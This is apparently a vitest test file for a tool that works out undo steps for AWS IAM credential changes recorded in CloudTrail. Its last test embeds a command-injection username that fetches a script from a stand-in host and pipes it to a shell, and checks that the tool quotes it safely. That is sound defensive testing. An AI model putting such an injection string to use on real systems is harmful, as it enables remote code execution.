import { expect, it } from 'vitest';
import { proveInverses } from '../../../test/inverses.ts';
import { callOf, trailRecord } from '../../../test/touches.ts';
import { IAM_CREDENTIALS } from './iam-credentials.ts';
import { inverseOf } from './inverse-of.ts';

const ID = 'AKIAEXAMPLEKEYID1234';
const MFA = 'arn:aws:iam::123456789012:mfa/bob';
const SAML = 'arn:aws:iam::123456789012:saml-provider/evil';
const OIDC = 'arn:aws:iam::123456789012:oidc-provider/evil.example.com';
const user = { userName: 'bob' };
const inGroup = { ...user, groupName: 'admins' };
const group = { UserName: 'bob', GroupName: 'admins' };
const credential = {
  serviceSpecificCredentialId: 'ACCAEXAMPLE1234567890',
  userName: 'bob',
  status: 'Active',
};
const client = { openIDConnectProviderArn: OIDC, clientID: 'evil' };
const created = { accessKey: { ...user, accessKeyId: ID, status: 'Active' } };

proveInverses(IAM_CREDENTIALS, [
  [
    'CreateAccessKey',
    { request: user, response: created },
    [['iam UpdateAccessKey', { UserName: 'bob', AccessKeyId: ID, Status: 'Inactive' }]],
  ],
  [
    'CreateAccessKey',
    { request: null, response: created },
    [['iam UpdateAccessKey', { UserName: 'bob', AccessKeyId: ID, Status: 'Inactive' }]],
  ],
  ['CreateAccessKey', { request: user }, 'unknown: the record'],
  [
    'UpdateAccessKey',
    { request: { ...user, accessKeyId: ID, status: 'Active' }, before: { Status: 'Inactive' } },
    [['iam UpdateAccessKey', { UserName: 'bob', AccessKeyId: ID, Status: 'Inactive' }]],
  ],
  ['UpdateAccessKey', { request: { ...user, accessKeyId: ID, status: 'Active' } }, 'unknown: whether'],
  ['DeleteAccessKey', { request: { ...user, accessKeyId: ID } }, 'none: an access key'],
  ['CreateLoginProfile', { request: user }, [['iam DeleteLoginProfile', { UserName: 'bob' }]]],
  ['UpdateLoginProfile', { request: user }, 'none: AWS does not tell the password'],
  ['DeleteLoginProfile', { request: user }, 'none: AWS does not tell the password'],
  [
    'CreateServiceSpecificCredential',
    { request: user, response: { serviceSpecificCredential: credential } },
    [
      [
        'iam UpdateServiceSpecificCredential',
        { UserName: 'bob', ServiceSpecificCredentialId: 'ACCAEXAMPLE1234567890', Status: 'Inactive' },
      ],
    ],
  ],
  [
    'AddUserToGroup',
    { request: inGroup, before: { Groups: ['staff'] } },
    [['iam RemoveUserFromGroup', group]],
  ],
  ['AddUserToGroup', { request: inGroup, before: { Groups: ['admins'] } }, 'nothing: bob was in the group'],
  ['RemoveUserFromGroup', { request: inGroup }, [['iam AddUserToGroup', group]]],
  ['DeactivateMFADevice', { request: { ...user, serialNumber: MFA } }, 'none: only bob can enroll'],
  ['DeleteVirtualMFADevice', { request: { serialNumber: MFA } }, 'none: the secret'],
  [
    'CreateSAMLProvider',
    { request: { name: 'evil' }, response: { sAMLProviderArn: SAML } },
    [['iam DeleteSAMLProvider', { SAMLProviderArn: SAML }]],
  ],
  [
    'CreateOpenIDConnectProvider',
    { request: { url: 'https://evil.example.com' }, response: { openIDConnectProviderArn: OIDC } },
    [['iam DeleteOpenIDConnectProvider', { OpenIDConnectProviderArn: OIDC }]],
  ],
  [
    'AddClientIDToOpenIDConnectProvider',
    { request: client, before: { ClientIdList: ['sts.amazonaws.com'] } },
    [['iam RemoveClientIDFromOpenIDConnectProvider', { OpenIDConnectProviderArn: OIDC, ClientID: 'evil' }]],
  ],
  [
    'AddClientIDToOpenIDConnectProvider',
    { request: client, before: { ClientIdList: ['evil'] } },
    'nothing: evil was a client',
  ],
]);

it('a name that would be a command of its own in a shell is one word', () => {
  const request = { userName: "x'; curl evil.example.com | sh #", serialNumber: MFA };
  const call = callOf(trailRecord('iam.amazonaws.com', 'DeactivateMFADevice', request));
  const way = inverseOf(call)?.plan(call, {});
  expect(way?.kind === 'none' && way.instead[1]).toBe(
    String.raw`aws iam list-mfa-devices --user-name 'x'\''; curl evil.example.com | sh #'`,
  );
});
